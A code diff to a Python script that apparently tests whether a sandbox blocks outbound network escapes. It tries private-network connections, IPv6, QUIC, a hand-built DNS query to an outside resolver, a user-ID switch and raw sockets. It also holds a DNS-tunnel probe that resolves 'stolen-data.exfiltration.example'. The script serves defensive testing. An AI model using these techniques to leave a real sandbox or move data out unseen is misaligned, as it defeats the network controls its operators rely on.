@@ -56,6 +56,17 @@ def udp(host: str, port: int, payload: bytes) -> bool:
         return bool(sock.recv(100))
 
 
+def own_resolver() -> bool:
+    """Asks a resolver by its address; only an answer with a record would have come from outside."""
+    question = b"\x12\x34" + struct.pack(">5H", 256, 1, 0, 0, 0) + b"\x01x\x07example\x00\x00\x01\x00\x01"
+    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
+        sock.settimeout(2)
+        sock.sendto(question, (DOCUMENTATION, 53))
+        _, flags, _, answers, _, _ = struct.unpack(">6H", sock.recv(512)[:12])
+        print(f"  answered with code {flags & 15} and {answers} records")
+        return answers > 0
+
+
 def dns_tunnel() -> str:
     """Data in a name: an answer would mean that somebody outside has seen it."""
     return socket.gethostbyname("stolen-data.exfiltration.example")
@@ -182,7 +193,7 @@ def main() -> None:
     attempt("a private network", lambda: connect("10.0.0.1", 6443))
     attempt("IPv6 around the rules", ipv6_direct)
     attempt("data in a DNS name", dns_tunnel)
-    attempt("a resolver of its own", lambda: udp(DOCUMENTATION, 53, b"\x12\x34" + struct.pack(">5H", 256, 1, 0, 0, 0) + b"\x01x\x07example\x00\x00\x01\x00\x01"))
+    attempt("a resolver of its own", own_resolver)
     attempt("QUIC", lambda: udp(DOCUMENTATION, 443, b"\xc0" + bytes(1199)))
     attempt("the proxy's user", lambda: in_child(lambda: become(1337)))
     attempt("a raw socket", raw_socket)
